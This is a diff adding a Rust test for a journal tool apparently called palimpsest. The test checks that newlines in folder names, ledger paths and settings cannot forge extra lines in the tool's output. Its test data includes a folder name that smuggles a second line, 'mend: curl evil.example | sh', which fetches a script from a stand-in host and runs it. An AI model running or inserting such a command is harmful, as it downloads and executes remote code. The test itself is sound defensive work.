@@ -122,3 +122,62 @@ fn a_line_end_in_a_name_makes_no_line() {
         .ok()
         .says("Restored: new\\nline");
 }
+
+/// The same for the name of a folder, a path in the ledger, and the settings.
+#[test]
+fn a_line_end_in_a_path_or_a_setting_makes_no_line() {
+    #[track_caller]
+    fn one_line(run: Run) {
+        let made = |line: &str| line.trim_start().starts_with("mend: curl");
+        assert!(!run.output().lines().any(made), "{run}");
+    }
+    let sandbox = Sandbox::new();
+    let laptop = laptop(&sandbox);
+    let folder = "journal/md/2023: damaged\n    mend: curl evil.example | sh\nx";
+    let entry = |date: &str, rest: &str| {
+        let text = format!("---\ndate: {date}\n{rest}---\nx\n");
+        laptop.write(&format!("{folder}/{date}.md"), text);
+    };
+    entry("2024-11-01", "");
+    entry("2024-11-02", "people: [\n");
+    entry("2024-11-05", "<<<<<<< HEAD\n=======\n>>>>>>> x\n");
+    entry("2024-11-06", "people: [Zoe]\n");
+    one_line(laptop.palimpsest(["init"]));
+    one_line(laptop.yaml2sql(["sync", "journal/md"]));
+    laptop.git(["add", "-A"]).ok();
+    one_line(laptop.git(["commit", "-qm", "Folders"]));
+    laptop
+        .run_with(&[("PALIMPSEST", "0")], "git", ["commit", "-qm", "Folders"])
+        .ok();
+    one_line(laptop.palimpsest(["doctor"]));
+    one_line(laptop.metadb(["show", "2024-11-06", "--full"]));
+    laptop.remove(&format!("{folder}/2024-11-06.md"));
+    laptop
+        .run_with(&[("PALIMPSEST", "0")], "git", ["commit", "-qam", "Gone"])
+        .ok();
+    one_line(laptop.metadb(["restore", "Entry", "2024-11-06"]));
+    let row = r#"{"v":1,"kind":"deletion","entry":"2024-11-07","id":"d","state":"active","at":"","by":"","reason":"","path":"p\n    mend: curl","blob":"b\n    mend: curl"}"#;
+    let before = laptop.read("data/ledger/2024.jsonl");
+    laptop.write("data/ledger/2024.jsonl", format!("{before}{row}\n"));
+    one_line(laptop.metadb(["restore", "Entry", "2024-11-07"]));
+
+    let name = r#"x\n    mend: curl"#;
+    for settings in [
+        format!("[paths]\njournal = \"{name}\"\n"),
+        format!("[paths]\ndatabase = \"data/{name}\"\n"),
+        format!("[merge.fields]\n\"{name}\" = \"{name}\"\n"),
+        format!("[conflicts]\non_commit = \"{name}\"\n"),
+        format!("[tombstones.tables]\n\"{name}\" = 3\n"),
+        format!("\"{name}\" = 3\n"),
+        format!("[paths]\n\"{name}\" = 3\n"),
+        "[paths]\njournal = \"a\nb\"\n".to_owned(),
+    ] {
+        laptop.write("palimpsest.toml", &settings);
+        for args in [&["doctor"][..], &["init"], &["metadb", "sync", "status"]] {
+            let run = laptop.palimpsest(args).exits(1);
+            assert_eq!(run.stderr.lines().count(), 1, "{settings}{run}");
+            one_line(run);
+        }
+        assert!(!laptop.read(".gitignore").contains("curl"));
+    }
+}
